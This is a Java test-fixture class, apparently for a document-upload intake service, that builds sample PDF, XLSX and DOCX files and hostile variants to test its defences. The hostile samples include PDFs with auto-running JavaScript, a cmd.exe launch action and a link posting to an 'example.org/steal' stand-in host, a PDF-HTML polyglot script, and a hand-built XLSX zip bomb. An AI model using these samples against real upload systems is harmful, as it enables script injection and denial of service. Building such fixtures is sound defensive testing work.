package nl.sto.reports.intake;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.function.Consumer;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;

/** Small real files of each type, and the attacks on them, built in memory. */
final class TestFiles {

    private static final int MIB = 1024 * 1024;

    private TestFiles() {
    }

    /** A real one-page PDF, made with PDFBox. */
    static byte[] pdf() {
        return pdf("Voortgangsrapportage");
    }

    /** A real one-page PDF with this title: different titles make different files. */
    static byte[] pdf(String text) {
        return pdf(text, document -> {
        });
    }

    /** A PDF that runs JavaScript as soon as it is opened. */
    static byte[] pdfWithOpenActionJavaScript() {
        return pdf("Open mij", document -> document.getDocumentCatalog()
                .setOpenAction(new PDActionJavaScript("app.alert('gehackt');")));
    }

    /** A PDF whose page, when shown, starts a program. */
    static byte[] pdfWithLaunchAction() {
        return pdf("Bekijk mij", document -> {
            PDActionLaunch launch = new PDActionLaunch();
            PDSimpleFileSpecification program = new PDSimpleFileSpecification();
            program.setFile("cmd.exe");
            launch.setFile(program);
            PDPageAdditionalActions actions = new PDPageAdditionalActions();
            actions.setO(launch);
            document.getPage(0).setActions(actions);
        });
    }

    /** A PDF with a link that runs JavaScript when clicked. */
    static byte[] pdfWithJavaScriptLink() {
        return pdf("Klik hier", document -> {
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(50, 700, 200, 20));
            link.setAction(new PDActionJavaScript("this.submitForm('https://example.org/steal');"));
            try {
                document.getPage(0).getAnnotations().add(link);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    /** A PDF with a page content stream that unpacks to this many MiB of zeros. */
    static byte[] pdfWithPackedZeros(int mebibytes) {
        return pdf("Nullen", document -> {
            try {
                PDStream zeros = new PDStream(document);
                try (OutputStream out = zeros.createOutputStream(COSName.FLATE_DECODE)) {
                    byte[] block = new byte[MIB];
                    for (int i = 0; i < mebibytes; i++) {
                        out.write(block);
                    }
                }
                document.getPage(0).setContents(zeros);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    /** What the attacker sent: a PDF header, and then a web page with a script. */
    static byte[] pdfHeaderWithHtml() {
        return ("%PDF-1.4\n<html><body><script>fetch('/api/whoami').then(r => r.text()).then(alert)</script>"
                + "</body></html>\n").getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] xlsx() {
        return zip("[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml");
    }

    static byte[] docx() {
        return zip("[Content_Types].xml", "word/document.xml");
    }

    /** An XLSX of this many entries, each a few bytes. */
    static byte[] xlsxWithEntries(int entries) {
        String[] names = new String[entries];
        names[0] = "[Content_Types].xml";
        names[1] = "xl/workbook.xml";
        for (int i = 2; i < entries; i++) {
            names[i] = "xl/worksheets/sheet" + i + ".xml";
        }
        return zip(names);
    }

    /**
     * A zip bomb shaped like an XLSX: its sheet unpacks to {@code mebibytes} MiB of zeros from about a thousandth of
     * that. Written by hand from one compressed mebibyte repeated, so that building it costs milliseconds rather
     * than deflating gigabytes; its sizes and checksum are those of the real content.
     */
    static byte[] xlsxZipBomb(int mebibytes) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        deflater.setInput(new byte[MIB]);
        byte[] buffer = new byte[64 * 1024];
        // A sync flush ends the chunk on a byte boundary without ending the stream, so it can be repeated.
        int chunkLength = deflater.deflate(buffer, 0, buffer.length, Deflater.SYNC_FLUSH);
        deflater.end();
        ByteArrayOutputStream data = new ByteArrayOutputStream();
        CRC32 crc = new CRC32();
        byte[] zeros = new byte[MIB];
        for (int i = 0; i < mebibytes; i++) {
            data.write(buffer, 0, chunkLength);
            crc.update(zeros);
        }
        // A final, empty block with fixed codes ends the stream.
        data.write(0x03);
        data.write(0x00);
        RawZip zip = new RawZip();
        zip.add("[Content_Types].xml", "<Types/>".getBytes(StandardCharsets.UTF_8));
        zip.add("xl/workbook.xml", "<workbook/>".getBytes(StandardCharsets.UTF_8));
        zip.addDeflated("xl/worksheets/sheet1.xml", data.toByteArray(), crc.getValue(), (long) mebibytes * MIB);
        return zip.finish();
    }

    /** A Windows executable's header: what a renamed .exe starts with. */
    static byte[] exe() {
        byte[] bytes = new byte[512];
        bytes[0] = 'M';
        bytes[1] = 'Z';
        return bytes;
    }

    static byte[] zip(String... entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (String entry : entries) {
                zip.putNextEntry(new ZipEntry(entry));
                zip.write(("<xml>" + entry + "</xml>").getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] pdf(String text, Consumer<PDDocument> change) {
        try (PDDocument document = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            document.addPage(page);
            // A drawing rather than text: a font would make PDFBox search the machine's fonts first.
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.addRect(50, 700, 200, 100);
                content.stroke();
            }
            document.getDocumentInformation().setTitle(text);
            // PDFBox would make the file's ID from the time; this one makes the same title the same file.
            COSString id = new COSString(text);
            document.getDocument().getTrailer().setItem(COSName.ID, new COSArray(List.of(id, id)));
            change.accept(document);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A ZIP archive written entry by entry, for content that {@link ZipOutputStream} would have to deflate. */
    private static final class RawZip {

        private final ByteArrayOutputStream out = new ByteArrayOutputStream();
        private final ByteArrayOutputStream directory = new ByteArrayOutputStream();
        private int entries;

        void add(String name, byte[] content) {
            Deflater deflater = new Deflater(Deflater.DEFAULT_COMPRESSION, true);
            deflater.setInput(content);
            deflater.finish();
            byte[] buffer = new byte[content.length + 64];
            int length = deflater.deflate(buffer);
            deflater.end();
            CRC32 crc = new CRC32();
            crc.update(content);
            addDeflated(name, Arrays.copyOf(buffer, length), crc.getValue(), content.length);
        }

        void addDeflated(String name, byte[] deflated, long crc, long size) {
            byte[] fileName = name.getBytes(StandardCharsets.UTF_8);
            int offset = out.size();
            write(out, header(30 + fileName.length).putInt(0x04034b50).putShort((short) 20).putShort((short) 0)
                    .putShort((short) 8).putInt(0).putInt((int) crc).putInt(deflated.length).putInt((int) size)
                    .putShort((short) fileName.length).putShort((short) 0).put(fileName));
            out.writeBytes(deflated);
            write(directory, header(46 + fileName.length).putInt(0x02014b50).putShort((short) 20)
                    .putShort((short) 20).putShort((short) 0).putShort((short) 8).putInt(0).putInt((int) crc)
                    .putInt(deflated.length).putInt((int) size).putShort((short) fileName.length)
                    .putShort((short) 0).putShort((short) 0).putShort((short) 0).putShort((short) 0).putInt(0)
                    .putInt(offset).put(fileName));
            entries++;
        }

        byte[] finish() {
            int directoryOffset = out.size();
            out.writeBytes(directory.toByteArray());
            write(out, header(22).putInt(0x06054b50).putShort((short) 0).putShort((short) 0)
                    .putShort((short) entries).putShort((short) entries).putInt(directory.size())
                    .putInt(directoryOffset).putShort((short) 0));
            return out.toByteArray();
        }

        private static ByteBuffer header(int size) {
            return ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
        }

        private static void write(ByteArrayOutputStream to, ByteBuffer record) {
            to.writeBytes(record.array());
        }
    }
}
